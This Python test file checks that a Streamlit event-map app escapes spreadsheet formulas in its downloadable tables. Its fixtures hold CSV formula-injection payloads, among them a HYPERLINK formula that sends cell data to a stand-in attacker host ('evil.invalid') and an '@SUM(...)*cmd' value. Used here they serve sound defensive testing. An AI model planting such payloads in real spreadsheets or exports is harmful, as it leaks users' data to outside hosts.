"""Every table the app shows is safe to download from its toolbar ("Download as CSV" writes the cells as
shown, with no formula neutralisation of its own): no text cell starts like a spreadsheet formula."""

from __future__ import annotations

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from base.csv_safety import FORMULA_STARTS
from tests.app.conftest import APP, PROJECT_ROOT, TIMEOUT_S, app, event_rows

HOSTILE = PROJECT_ROOT / "tests" / "data" / "hostile" / "events_hostile.csv"


def text_cells(table: pd.DataFrame) -> list[str]:
    cells: list[str] = []
    for column in table.columns:
        for value in table[column]:
            if isinstance(value, str):
                cells.append(value)
            elif isinstance(value, list | tuple):
                cells.extend(v for v in value if isinstance(v, str))
    return cells


def formulas(at: AppTest) -> dict[int, list[str]]:
    """The text cells of each shown table that a spreadsheet would run."""
    found = {}
    for number, table in enumerate(at.dataframe):
        bad = [c for c in text_cells(table.value) if c.startswith(FORMULA_STARTS)]
        if bad:
            found[number] = bad
    return found


@pytest.fixture
def hostile_data(monkeypatch):
    monkeypatch.setenv("EVENTMAP_DATA", str(HOSTILE))


def test_the_dashboards_tables_show_formulas_as_text(hostile_data):
    at = app()
    assert len(at.dataframe) >= 1
    assert formulas(at) == {}
    shown = text_cells(at.dataframe[-1].value)
    assert "'=HYPERLINK(\"http://evil.invalid/?d=\"&A1,\"click\") [actor]" in shown, "shown, as text"
    assert "H13-formula-eq" in shown


@pytest.fixture
def formula_places(clean_env, monkeypatch):
    """Names nothing can place (the Places page lists them, with their events) and a source site whose
    name starts like a formula (the About page lists the sites)."""
    path = clean_env / "formulas.csv"
    path.write_bytes(event_rows(
        {"location": "=HYPERLINK(\"http://evil.invalid\",\"x\")", "latitude": "", "longitude": "",
         "sources": "https://-evil.example/report"},
        {"location": "+1+1 Nowhere", "latitude": "", "longitude": "", "side": "-2+3", "description": "@SUM(1+1)*cmd"},
    ))
    monkeypatch.setenv("EVENTMAP_DATA", str(path))


@pytest.mark.parametrize(("page", "expected"), [
    ("pages/1_Places.py", "'=HYPERLINK(\"http://evil.invalid\",\"x\")"),
    ("pages/1_Places.py", "'@SUM(1+1)*cmd"),  # the events of the place picked
    ("pages/1_Places.py", "'-2+3"),
    ("pages/2_About.py", "'-evil.example"),
])
def test_the_other_pages_tables_show_formulas_as_text(formula_places, page, expected):
    at = AppTest.from_file(APP, default_timeout=TIMEOUT_S)
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    assert formulas(at) == {}
    assert expected in [cell for table in at.dataframe for cell in text_cells(table.value)]
